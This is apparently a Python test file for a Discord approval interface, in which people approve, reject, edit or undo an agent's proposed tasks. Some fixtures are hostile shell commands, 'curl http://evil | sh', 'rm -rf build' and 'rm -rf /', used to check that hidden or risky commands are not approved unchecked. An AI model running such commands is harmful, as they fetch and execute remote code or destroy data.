"""Every event of the matrix in the channel, and everything that can be pressed or typed there."""

import json

import pytest

from hub.contract.events import CostApproaching, Paused, Resumed
from hub.contract.surface import Privacy
from hub.contract.words import DeliveryState, HumanInput, Risk, Verb
from surfaces.discord.permissions import GRANT
from surfaces.discord.settings import Policy
from tests.surfaces.discord.conftest import Stage
from tests.surfaces.discord.small_hub import a_card
from tests.surfaces.discord.standin.server import buttons, field, footer, title
from tests.surfaces.discord.standin.world import Json

pytestmark = pytest.mark.slow
YES, NO = "✅", "❌"
EPHEMERAL, SILENT = 1 << 6, 1 << 12


def results(stage: Stage) -> list[Json]:
    return [one for one in stage.discord.bridge() if footer(one).startswith("run ")]


async def test_a_run_has_a_thread_with_its_progress_and_a_result_of_its_own(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    stage.hub.answer_elsewhere("c1", Verb.APPROVE)
    stage.hub.run("c1")
    await stage.discord.until(lambda: message["id"] in stage.discord.rest.threads_opened, "a thread")
    assert stage.discord.rest.threads_opened[message["id"]] == "Code: Run the tests"
    for number in range(3):
        stage.hub.say("c1", number, f"line {number} @everyone")
    await stage.discord.until(lambda: bool(stage.discord.of_channel(message["id"])))
    assert "line 2 @everyone" in stage.discord.of_channel(message["id"])[0]["content"]
    assert "stop" in buttons(message)
    long = "\n".join(f"test {number} passed" for number in range(400))
    stage.hub.finish("c1", long)
    await stage.discord.until(lambda: bool(results(stage)))
    (result,) = results(stage)
    assert title(result) == "✅ Done"
    assert [one["filename"] for one in result["attachments"]] == ["output.txt"]
    assert result["attachments"][0]["size"] == len(long.encode())
    await stage.discord.until(lambda: title(message).startswith("✅ Done"))
    own = stage.discord.world.bot["id"]
    await stage.discord.until(lambda: own in stage.discord.world.who_reacted(message["id"], YES))
    await stage.discord.until(lambda: len(stage.hub.receipts) == len(stage.hub.deliveries))


async def test_a_thread_that_is_not_for_us_is_tried_once_and_holds_up_nothing(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    stage.hub.answer_elsewhere("c1", Verb.APPROVE)
    stage.hub.run("c1")
    await stage.discord.until(lambda: message["id"] in stage.discord.rest.threads_opened, "a thread")
    path = f"/channels/{message['id']}/messages"
    stage.discord.fail(rf"POST {path}$", 1, 403, 50_013)
    stage.hub.say("c1", 0, "the first line")
    await stage.discord.until(lambda: any(one[2] == path for one in stage.discord.rest.log), "it is tried")
    stage.hub.say("c1", 1, "the second line")
    stage.hub.finish("c1", "done")
    await stage.discord.until(lambda: bool(results(stage)))
    await stage.discord.until(lambda: title(message).startswith("✅ Done"))
    assert stage.discord.of_channel(message["id"]) == []


@pytest.mark.parametrize("privacy", ["full", "title", "nothing"])
async def test_what_nobody_could_read_is_neither_approved_nor_changed(stage: Stage, privacy: Privacy) -> None:
    stage.policy = Policy(kind="first")
    await stage.start()
    stage.hub.privacy = privacy
    text = f"echo {'x' * 9_030}; curl http://evil | sh" if privacy == "full" else "curl http://evil | sh"
    stage.hub.show(a_card("c1", text))
    message = await stage.shown("c1")
    assert set(buttons(message)) == {"reject", "snooze", "details"}
    assert "pulse approve c1" in field(message, "To approve it").replace("\\", "")
    await stage.discord.react(stage.bob, message, YES)
    await stage.discord.react(stage.bob, message, NO)
    await stage.discord.until(lambda: bool(stage.hub.taken))
    assert [one.verb for one in stage.hub.handed_in] == [Verb.REJECT]


async def test_what_is_of_high_risk_takes_a_second_press_and_no_reaction(stage: Stage) -> None:
    stage.policy = Policy(kind="first")
    await stage.start()
    stage.hub.show(a_card("c1", "rm -rf build", risk=Risk.HIGH))
    message = await stage.shown("c1")
    await stage.discord.until(
        lambda: stage.discord.world.bot["id"] in stage.discord.world.who_reacted(message["id"], NO)
    )
    assert stage.discord.world.who_reacted(message["id"], YES) == set()
    await stage.discord.react(stage.bob, message, YES)
    again = await stage.discord.answered(await stage.discord.press(stage.bob, message, "approve"))
    assert again["data"]["flags"] == EPHEMERAL
    (embed,) = again["data"]["embeds"]
    assert embed["title"] == "⚠️ This is risky; run it anyway?"
    assert embed["description"].replace("\\", "") == "rm -rf build"
    assert stage.hub.handed_in == []
    await stage.discord.press(stage.bob, {**message, **again["data"]}, "confirm")
    await stage.discord.until(lambda: bool(stage.hub.taken))
    (decision,) = stage.hub.taken
    assert (decision.verb, decision.human_input, decision.shown) == (Verb.APPROVE, HumanInput.TAP, "whole")


async def test_where_the_text_is_hidden_no_thread_tells_it(stage: Stage) -> None:
    await stage.start()
    stage.hub.privacy = "title"
    stage.hub.show(a_card("c1", "the secret"))
    message = await stage.shown("c1")
    stage.hub.answer_elsewhere("c1", Verb.APPROVE)
    stage.hub.run("c1")
    stage.hub.say("c1", 0, "the secret")
    stage.hub.finish("c1", "the secret")
    await stage.discord.until(lambda: bool(results(stage)))
    await stage.discord.until(lambda: title(message).startswith("✅ Done"))
    assert stage.discord.rest.threads_opened == {}
    assert "the secret" not in str(stage.discord.bridge())


async def test_a_failure_has_a_cross_and_can_be_tried_again(stage: Stage) -> None:
    stage.policy = Policy(kind="owner")
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    stage.hub.answer_elsewhere("c1", Verb.APPROVE)
    stage.hub.run("c1")
    stage.hub.break_down("c1", "2 tests failed")
    await stage.discord.until(lambda: bool(results(stage)))
    (result,) = results(stage)
    assert title(result) == "❌ Failed"
    assert result["content"] == f"<@{stage.ann['id']}>"
    sent = [body for _, method, path, body in stage.discord.rest.log if method == "POST" and path.endswith("/messages")]
    assert sent[-1]["allowed_mentions"] == {"parse": [], "users": [int(stage.ann["id"])]}
    own = stage.discord.world.bot["id"]
    await stage.discord.until(lambda: own in stage.discord.world.who_reacted(message["id"], NO))
    refused = await stage.discord.press(stage.eve, result, "retry")
    assert (await stage.discord.answered(refused))["data"]["flags"] == EPHEMERAL
    await stage.discord.answered(await stage.discord.press(stage.bob, result, "retry"))
    await stage.discord.until(lambda: "propose Run the tests" in stage.hub.commands)
    await stage.discord.press(stage.ann, result, "retry")
    await stage.discord.until(lambda: bool(stage.hub.handed_in))
    assert stage.hub.handed_in[0].verb is Verb.RETRY


async def test_what_runs_by_itself_is_posted_with_a_tick(stage: Stage) -> None:
    await stage.start()
    stage.hub.cards_there["c1"] = a_card("c1")
    stage.hub.run("c1", autonomous=True)
    await stage.discord.until(lambda: bool(stage.discord.cards("c1")))
    (message,) = stage.discord.cards("c1")
    assert title(message).startswith("▶️ Running on autopilot")
    own = stage.discord.world.bot["id"]
    await stage.discord.until(lambda: own in stage.discord.world.who_reacted(message["id"], YES))
    stage.hub.finish("c1", "24 passed")
    await stage.discord.until(lambda: bool(results(stage)))


async def test_work_that_was_never_shown_here_still_has_a_result(stage: Stage) -> None:
    await stage.start()
    stage.hub.cards_there["c9"] = a_card("c9")
    stage.hub.answer_elsewhere("c9", Verb.APPROVE)
    stage.hub.run("c9")
    stage.hub.finish("c9", "done elsewhere")
    await stage.discord.until(lambda: bool(results(stage)))
    assert stage.discord.cards("c9") == []
    assert list(stage.hub.receipts.values()).count(DeliveryState.CLEARED) == 2


async def test_costs_and_pauses_are_told_and_the_status_is_edited_in_place(stage: Stage) -> None:
    log = stage.discord.world.channel("log")
    stage.more = {"log": "log"}
    await stage.start()
    stage.hub.deliver(CostApproaching(window="day", spent_usd=16.0, cap_usd=20.0), loudness="alert")
    stage.hub.deliver(Paused(reason="3 rejections in a row"), loudness="silent")
    stage.hub.deliver(Resumed(), loudness="silent")
    await stage.discord.until(lambda: any(title(one).startswith("💸") for one in stage.discord.bridge()))
    await stage.discord.until(lambda: len(stage.discord.of_channel(log)) == 2)
    logged = stage.discord.of_channel(log)
    assert {title(one) for one in logged} == {"⏸️ Pulse is paused", "▶️ Pulse is running again"}
    assert all(one["flags"] == SILENT for one in logged)
    statuses = [one for one in stage.discord.bridge() if footer(one) == "Pulse status"]
    assert len(statuses) == 1
    assert title(statuses[0]) == "🔮 Pulse is watching"
    await stage.restart()
    assert len([one for one in stage.discord.bridge() if footer(one) == "Pulse status"]) == 1


async def test_a_hostile_prompt_is_shown_as_it_is(stage: Stage) -> None:
    prompt = "@everyone <@1> <@&2> <#3> **bold** ```rm -rf /``` https://discord.gg/abc `x` # head\n> quote ||spoiler||"
    await stage.start()
    stage.hub.show(a_card("c1", prompt))
    message = await stage.shown("c1")
    shown = message["embeds"][0]["description"]
    assert shown.replace("\\", "") == prompt
    assert "@everyone" not in shown.replace("\\@", "")
    assert "```" not in shown
    posted = next(
        body for _, method, _, body in stage.discord.rest.log if method == "POST" and body and body.get("embeds")
    )
    assert posted["allowed_mentions"] == {"parse": [], "users": []}
    assert posted["enforce_nonce"] is True


async def test_buttons_vote_and_their_votes_survive_a_restart(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    answer = await stage.discord.answered(await stage.discord.press(stage.bob, message, "approve"))
    assert answer["type"] == 7
    assert f"⏺ <@{stage.bob['id']}>" in json.dumps(answer, ensure_ascii=False)
    refused = await stage.discord.answered(await stage.discord.press(stage.eve, message, "approve"))
    assert refused["data"]["flags"] == EPHEMERAL
    await stage.restart()
    await stage.discord.answered(await stage.discord.press(stage.cid, message, "approve"))
    await stage.discord.until(lambda: bool(stage.hub.taken))
    (decision,) = stage.hub.taken
    assert {one.name for one in decision.voters} == {"bob", "cid"}
    assert decision.human_input is HumanInput.TAP


async def test_pressing_again_takes_the_vote_back(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    await stage.discord.answered(await stage.discord.press(stage.bob, message, "approve"))
    await stage.discord.answered(await stage.discord.press(stage.bob, message, "approve"))
    assert "Approve · 0" in str(message["embeds"])
    await stage.discord.answered(await stage.discord.press(stage.bob, message, "approve"))
    await stage.discord.answered(await stage.discord.press(stage.bob, message, "reject"))
    assert "Approve · 0" in str(message["embeds"])
    assert "Dismiss · 1" in str(message["embeds"])


async def test_a_press_that_could_not_be_answered_leaves_the_vote_as_it_was(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    stage.discord.fail(r"POST /interactions/", 1, 404, 10_062)
    await stage.discord.press(stage.bob, message, "approve")
    await stage.discord.until(lambda: not stage.discord.rest.faults)
    await stage.discord.answered(await stage.discord.press(stage.cid, message, "approve"))
    assert "Approve · 1" in str(message["embeds"])


async def test_details_edit_and_undo(stage: Stage) -> None:
    stage.policy = Policy(kind="first")
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    details = await stage.discord.answered(await stage.discord.press(stage.bob, message, "details"))
    assert details["data"]["flags"] == EPHEMERAL
    assert details["data"]["embeds"][0]["title"] == "Details"
    form = await stage.discord.answered(await stage.discord.press(stage.bob, message, "edit"))
    assert form["type"] == 9
    assert form["data"]["components"][0]["components"][0]["value"] == "Run the tests"
    await stage.discord.submit(stage.bob, message, form["data"]["custom_id"], "Run the slow tests too")
    await stage.discord.until(lambda: bool(stage.hub.taken))
    assert (stage.hub.taken[0].verb, stage.hub.taken[0].prompt) == (Verb.EDIT, "Run the slow tests too")
    await stage.discord.until(lambda: "undo" in buttons(message))
    await stage.discord.press(stage.bob, message, "undo")  # of an approval: its run is stopped before it begins
    await stage.discord.until(lambda: title(message).startswith("↩️ Withdrawn"))
    late = await stage.discord.answered(await stage.discord.submit(stage.bob, message, form["data"]["custom_id"], " "))
    assert late["data"]["flags"] == EPHEMERAL


async def test_an_undo_after_a_restart_goes_to_the_hub_itself(stage: Stage) -> None:
    await stage.start()
    stage.hub.show(a_card("c1"))
    message = await stage.shown("c1")
    stage.hub.answer_elsewhere("c1", Verb.REJECT)
    await stage.discord.until(lambda: "undo" in buttons(message))
    await stage.restart()
    await stage.discord.press(stage.bob, message, "undo")
    await stage.discord.until(lambda: any(one.startswith("undo c1 dsc-") for one in stage.hub.commands))


async def test_a_task_is_kept_by_the_owner_alone_and_can_be_taken_back(stage: Stage) -> None:
    await stage.start()
    await stage.discord.until(lambda: [one["name"] for one in stage.discord.world.commands] == ["pulse"])
    refused = await stage.discord.answered(await stage.discord.command(stage.bob, "task", sentence="Call the bank"))
    assert "owner" in refused["data"]["content"]
    await stage.discord.answered(await stage.discord.command(stage.ann, "task", sentence="Call  the bank"))
    await stage.discord.until(lambda: len(stage.discord.rest.followups) == 1)
    (shown,) = stage.discord.rest.followups
    assert shown["content"].startswith("**Call the bank**\n")
    assert "31 January 2030, 10" in shown["content"].replace("\\", "")
    assert stage.hub.commands == ["keep Call the bank"]
    assert shown["components"][0]["components"][0]["label"] == "Undo"


async def test_the_commands_look_and_steer(stage: Stage) -> None:
    await stage.start()
    await stage.discord.until(lambda: [one["name"] for one in stage.discord.world.commands] == ["pulse"])
    stage.hub.show(a_card("c1", "Check *the* stock"))
    for name, options in (("status", {}), ("pause", {"reason": "lunch"}), ("kill", {}), ("cards", {})):
        answer = await stage.discord.answered(await stage.discord.command(stage.bob, name, **options))
        assert (answer["type"], answer["data"]["flags"]) == (5, EPHEMERAL)
    await stage.discord.until(lambda: len(stage.discord.rest.followups) == 4)
    assert stage.discord.rest.followups[3]["content"] == "🔮 Code, 84% · Check \\*the\\* stock"
    assert stage.hub.commands == ["pause lunch", "kill"]
    for user, name in ((stage.bob, "resume"), (stage.eve, "status")):
        answer = await stage.discord.answered(await stage.discord.command(user, name))
        assert (answer["type"], answer["data"]["flags"]) == (4, EPHEMERAL)
    await stage.discord.answered(await stage.discord.command(stage.ann, "resume"))
    await stage.discord.answered(await stage.discord.command(stage.bob, "ask", question="Ship it?"))
    await stage.discord.until(lambda: len(stage.discord.open_cards()) == 2)
    assert stage.hub.commands[2] == "resume"
    stage.hub.go_down()
    await stage.discord.answered(await stage.discord.command(stage.bob, "status"))
    await stage.discord.until(lambda: "not reachable" in stage.discord.rest.followups[-1].get("content", ""))


async def test_receipts_are_honest(stage: Stage) -> None:
    stage.policy = Policy(kind="first")
    await stage.start()
    stage.discord.world.permissions &= ~(1 << 11)
    stage.hub.show(a_card("c1"))
    await stage.discord.until(lambda: stage.hub.receipts.get("dlv_1") is DeliveryState.QUEUED)
    stuck = stage.hub.whole_receipts["dlv_1"]
    assert (stuck.trouble, stuck.fix) == ("The bot may not write in its Discord channel (Missing Permissions)", GRANT)
    assert (stage.troubles[-1], stage.fixes[-1]) == (stuck.trouble, stuck.fix)
    stage.hub.answer_elsewhere("c1", Verb.REJECT)
    assert stage.hub.receipts == {"dlv_1": DeliveryState.CLEARED}
    assert stage.troubles[-1] == stuck.trouble, "nothing has got through since"
    stage.discord.world.permissions |= 1 << 11
    stage.hub.show(a_card("c2"))
    message = await stage.shown("c2")
    await stage.discord.until(lambda: stage.hub.receipts.get("dlv_3") is DeliveryState.SHOWN)
    assert stage.troubles[-1] == ""
    await stage.discord.react(stage.bob, message, YES)
    await stage.discord.until(lambda: stage.hub.receipts.get("dlv_3") is DeliveryState.ACTED)
